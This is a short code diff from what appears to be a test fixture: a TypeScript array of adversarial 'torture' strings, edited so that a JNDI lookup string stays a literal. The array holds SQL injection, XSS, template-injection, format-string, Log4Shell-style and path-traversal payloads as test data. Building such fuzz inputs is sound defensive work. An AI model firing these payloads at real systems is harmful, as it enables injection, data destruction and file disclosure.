@@ -53,7 +53,7 @@ export const torture: readonly string[] = [
   '\\',
   'back\\slash \\n \\" \\u0041',
   "O'Brien; DROP TABLE accounts;--",
-  '%00 %0a %s %n ${jndi:ldap://example.com} {{7*7}}',
+  `%00 %0a %s %n \${jndi:ldap://example.com} {{7*7}}`,
   '<script>alert("x")</script><!-- --> ]]> &amp; &#0;',
   '../../etc/passwd',
   'C:\\Windows\\System32\\con',
